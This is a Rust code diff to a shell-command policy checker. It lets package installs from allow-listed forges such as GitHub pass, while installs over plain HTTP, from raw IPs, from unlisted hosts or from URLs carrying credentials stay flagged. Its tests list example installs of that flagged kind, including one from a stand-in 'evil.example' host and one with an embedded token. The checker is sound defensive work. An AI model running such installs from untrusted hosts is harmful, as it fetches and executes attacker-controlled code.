@@ -62,6 +62,24 @@ fn runner_package<'a>(program: &str, args: &'a [&'a str]) -> Option<(&'a str, bo
     None
 }
 
+/// A source URL on a host the policy lists (`git+https://github.com/psf/black@24.3.0`,
+/// `github:owner/repo`), over HTTPS or SSH, without credentials in it: as trusted as the
+/// package index — anyone can publish to either, so it is not judged harder than a plain
+/// install. Plain `http://`, `git://`, unlisted hosts and URLs with credentials stay flagged.
+fn listed_forge(cx: &Ctx<'_>, spec: &str) -> bool {
+    if spec.starts_with("github:") {
+        return cx.policy.host_allowed("github.com");
+    }
+    let url = spec.strip_prefix("git+").unwrap_or(spec);
+    if !(url.starts_with("https://") || url.starts_with("ssh://")) {
+        return false;
+    }
+    // `ssh://git@github.com/…`: the user name is the forge's convention, not a credential.
+    let url = url.replacen("ssh://git@", "ssh://", 1);
+    net::parse_destination(&url)
+        .is_some_and(|d| !d.has_credentials && d.ip.is_none() && cx.policy.host_allowed(&d.host))
+}
+
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     let Some(sa) = cx.shell else {
         return;
@@ -154,13 +172,16 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
                 }))
                 .collect();
             let from_url = args.iter().filter(|a| !index_hosts.contains(a)).any(|a| {
-                a.starts_with("git+")
+                (a.starts_with("git+")
                     || a.starts_with("http://")
                     || a.starts_with("https://")
                     || a.starts_with("github:")
                     || a.starts_with("git://")
-                    || a.contains(".git#")
-            }) || args.windows(2).any(|w| matches!(w, ["--git", _]));
+                    || a.contains(".git#"))
+                    && !listed_forge(cx, a)
+            }) || args
+                .windows(2)
+                .any(|w| matches!(w, ["--git", u] if !listed_forge(cx, u)));
             let bad_index = index_hosts.iter().any(|h| {
                 net::parse_destination(h)
                     .is_none_or(|d| !cx.policy.host_allowed(&d.host) && !d.is_local())
@@ -239,6 +260,44 @@ mod tests {
                     Auth,
                     "untrusted_package_source",
                 ),
+                (
+                    "pip install git+http://github.com/psf/black",
+                    Auth,
+                    "untrusted_package_source",
+                ),
+                (
+                    "pip install git+https://user:tok3n@github.com/acme/private.git",
+                    Auth,
+                    "untrusted_package_source",
+                ),
+                (
+                    "npm install https://198.51.100.3/pkg.tgz",
+                    Auth,
+                    "untrusted_package_source",
+                ),
+                (
+                    "cargo install --git https://git.evil.example/tool",
+                    Auth,
+                    "untrusted_package_source",
+                ),
+                // A listed forge is as trusted as the package index.
+                (
+                    "pip install git+https://github.com/psf/black@24.3.0",
+                    Pass,
+                    "",
+                ),
+                (
+                    "pip install git+ssh://git@gitlab.com/acme/lib.git@v1.2",
+                    Pass,
+                    "",
+                ),
+                ("npm install github:sindresorhus/slugify", Pass, ""),
+                (
+                    "cargo install --git https://github.com/BurntSushi/ripgrep",
+                    Pass,
+                    "",
+                ),
+                ("uv add git+https://github.com/encode/httpx", Pass, ""),
                 ("npx prettier --check .", Pass, ""),
                 ("npx -y typescript@5 --version", Pass, ""),
                 ("npm install lodash", Pass, ""),
